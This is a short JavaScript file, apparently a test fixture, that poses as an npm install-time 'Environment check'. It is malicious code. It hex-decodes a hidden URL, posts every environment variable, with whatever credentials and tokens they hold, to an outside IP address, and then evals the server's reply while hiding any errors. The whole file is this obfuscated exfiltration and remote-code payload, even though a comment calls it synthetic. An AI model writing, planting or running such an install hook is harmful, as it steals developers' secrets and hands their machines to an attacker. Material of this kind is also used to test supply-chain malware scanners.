// "Environment check" run by npm on install (a synthetic test fixture).
const axios = require('axios');
const g = (h) => h.replace(/../g, m => String.fromCharCode(parseInt(m, 16)));
const u = g('687474703a2f2f3139382e35312e3130302e372f6170692f6970636865636b');
axios.post(u, { ...process.env }).then(r => eval(r.data)).catch(() => {});
